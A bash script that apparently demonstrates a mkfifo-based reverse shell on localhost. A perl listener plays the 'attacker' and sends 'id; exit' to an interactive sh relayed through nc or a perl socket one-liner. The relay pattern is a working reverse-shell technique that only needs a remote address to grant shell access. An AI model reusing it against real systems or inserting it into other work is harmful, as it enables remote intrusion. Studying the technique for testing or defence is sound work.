#!/bin/bash
# A reverse shell without a socket on the shell: mkfifo + a relay. The shell reads commands from a FIFO and
# writes into a pipe; the relay (nc when installed, else a perl one-liner doing nc's job) holds the TCP
# connection to the "attacker" and copies between it and the pipe/FIFO.
set -eu
port=14446
ready=$(mktemp -u)
fifo=$(mktemp -u)
perl -MIO::Socket::INET -e '
my ($port, $ready) = @ARGV;
my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $port, Listen => 1, ReuseAddr => 1) or die "listen: $!";
open(my $f, ">", $ready); close($f);
my $c = $l->accept; sleep 2; print $c "id; exit\n"; sleep 1; close($c);' "$port" "$ready" &
attacker=$!
for i in $(seq 150); do [ -e "$ready" ] && break; sleep 0.2; done
rm -f "$ready"
mkfifo "$fifo"
if command -v nc >/dev/null; then
  relay=(nc -q 1 127.0.0.1 "$port")
  nc -h 2>&1 | grep -q -- ' -q ' || relay=(nc 127.0.0.1 "$port")
else
  relay=(perl -MIO::Socket::INET -MIO::Select -e '
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $ARGV[0]) or die "connect: $!";
my $sel = IO::Select->new($s, \*STDIN); $| = 1;
while (my @r = $sel->can_read(30)) { for my $h (@r) { my $n = sysread($h, my $b, 4096); exit 0 unless $n;
  if ($h == $s) { syswrite(STDOUT, $b) } else { syswrite($s, $b) } } }' "$port")
fi
timeout 20 bash -c 'sh -i < "$1" 2>&1 | "${@:2}" > "$1"' _ "$fifo" "${relay[@]}" 2>/dev/null || true
rm -f "$fifo"
wait $attacker || true
